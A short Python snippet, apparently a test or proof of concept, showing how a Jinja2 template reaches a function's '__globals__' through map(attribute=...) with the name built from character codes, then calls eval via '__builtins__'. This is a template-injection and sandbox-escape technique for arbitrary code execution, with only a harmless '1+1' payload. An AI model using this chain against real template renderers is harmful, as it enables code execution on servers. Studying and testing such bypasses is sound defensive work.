# template_text.cc hasPlainArguments: map('map', attribute=k): behind a first text any name is allowed, here the attribute
import jinja2
def f(): pass
t = jinja2.Template("{% set k = '%c%cglobals%c%c'|format(95,95,95,95) %}{{ keep([[f]]|map('map', attribute=k)|first|first) }}")
kept = []
t.render(f=f, keep=kept.append)
print(kept[0]["__builtins__"].eval("1+1"))
